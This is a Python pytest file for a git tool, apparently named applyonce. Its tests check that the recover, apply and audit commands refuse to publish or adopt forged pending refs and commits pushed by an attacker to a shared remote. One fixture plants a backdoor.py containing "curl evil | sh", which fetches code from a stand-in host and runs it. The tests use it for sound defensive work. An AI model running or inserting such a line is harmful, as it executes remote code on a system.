"""Commits and refs someone else pushed to the shared remote: a pending ref crafted on the
server, a foreign commit under a genuine call's message. recover publishes none of them, never
fails on them, and a call is never reported committed by a commit it did not make.

Every test runs real processes: the CLI and a real ``git daemon`` (``served``).
"""

from __future__ import annotations

from pathlib import Path

from tests.conftest import UTIL_PATCH, Repo, Served, git, run_cli

PENDING = "refs/applyonce/pending/heads/main/"


def _server_tip(served: Served) -> str:
    return served.server_git("rev-parse", "main").strip()


def _hostile_pending(served: Served, attacker: Repo, message: str) -> str:
    """A commit on the server's tip that adds a backdoor, under ``message``, pushed by someone
    else as a pending ref (as anyone allowed to push refs/applyonce/* can)."""
    tip = _server_tip(served)
    attacker.git("fetch", "-q", "origin", "main")
    attacker.git("checkout", "-q", "--detach", tip)
    (attacker.path / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
    attacker.git("add", "backdoor.py")
    attacker.git("commit", "-q", "-m", message)
    commit = attacker.git("rev-parse", "HEAD").strip()
    attacker.git("push", "-q", "origin", f"{commit}:{PENDING}{commit}")
    return commit


def test_recover_never_publishes_a_pending_commit_whose_call_it_does_not_know(
    served: Served, tmp_path: Path
) -> None:
    """A pending ref crafted by someone else: a commit adding a backdoor, under the message (and
    so the self-consistent identity trailers) of a genuine call. The recovering clone knows
    nothing of that call, so it cannot check that the commit carries the call's change: it must
    leave it, never publish it to the shared branch."""
    attacker = served.another_clone(tmp_path / "attacker")
    killed = run_cli(
        "apply",
        "-",
        "--repo",
        str(attacker.path),
        "--remote",
        "origin",
        input=UTIL_PATCH,
        env={"APPLYONCE_FAULT": "after-push-objects"},
    )
    assert killed.returncode == -9
    (genuine,) = served.server_git(
        "for-each-ref", "--format=%(objectname)", "refs/applyonce/"
    ).split()
    message = served.server_git("log", "-1", "--format=%B", genuine)
    served.server_git("update-ref", "-d", PENDING + genuine)
    before = _server_tip(served)
    hostile = _hostile_pending(served, attacker, message)

    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")

    assert done.returncode == 0, done.stderr
    assert _server_tip(served) == before, "a hostile pending commit was published"
    assert git(served.server, "cat-file", "-t", hostile).strip() == "commit"
    assert "published" not in done.stdout


def test_a_foreign_commit_with_a_copied_call_id_on_the_server_is_never_adopted(
    served: Served, tmp_path: Path
) -> None:
    """Someone pushes to the server's branch a commit of their own under a genuine call's message
    (its Call-Id trailer copied). The call, applied from a clone, must not be reported committed
    by that commit, and audit must name it forged."""
    scratch = served.another_clone(tmp_path / "scratch")
    made = run_cli("apply", "-", "--repo", str(scratch.path), input=UTIL_PATCH)  # local only
    assert made.returncode == 0, made.stderr
    message = scratch.git("log", "-1", "--format=%B").strip()
    attacker = served.another_clone(tmp_path / "attacker")
    (attacker.path / "backdoor.py").write_text("evil\n")
    attacker.git("add", "backdoor.py")
    attacker.git("commit", "-q", "-m", message)
    attacker.git("push", "-q", "origin", "HEAD:main")
    forged_tip = _server_tip(served)

    run = run_cli(
        "apply",
        "-",
        "--repo",
        str(served.clone.path),
        "--remote",
        "origin",
        "--json",
        input=UTIL_PATCH,
    )
    assert run.returncode == 5, run.stdout + run.stderr
    assert '"forged-call-id"' in run.stdout and forged_tip[:12] in run.stdout
    assert "Traceback" not in run.stderr
    audit = run_cli("audit", "--repo", str(served.clone.path), "--remote", "origin")
    assert audit.returncode == 1
    assert "forged" in (audit.stdout + audit.stderr).lower(), audit.stdout + audit.stderr


def test_pending_refs_that_name_no_commit_of_theirs_are_left_without_a_traceback(
    served: Served, tmp_path: Path
) -> None:
    """Pending refs crafted on the server: one whose name is a commit that exists nowhere, one
    pointing at a blob, one at a tree. recover reads them, publishes nothing and settles every other
    call; it never fails (it did: exit 3, "object is no commit object")."""
    attacker = served.another_clone(tmp_path / "attacker")
    blob = attacker.git("rev-parse", "HEAD:README.md").strip()
    tree = attacker.git("rev-parse", "HEAD^{tree}").strip()
    head = attacker.head()
    attacker.git(
        "push",
        "-q",
        "origin",
        f"{head}:{PENDING}{'ab' * 20}",
        f"{blob}:{PENDING}{blob}",
        f"{tree}:{PENDING}{tree}",
    )
    before = _server_tip(served)
    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode == 0, done.stdout + done.stderr
    assert _server_tip(served) == before
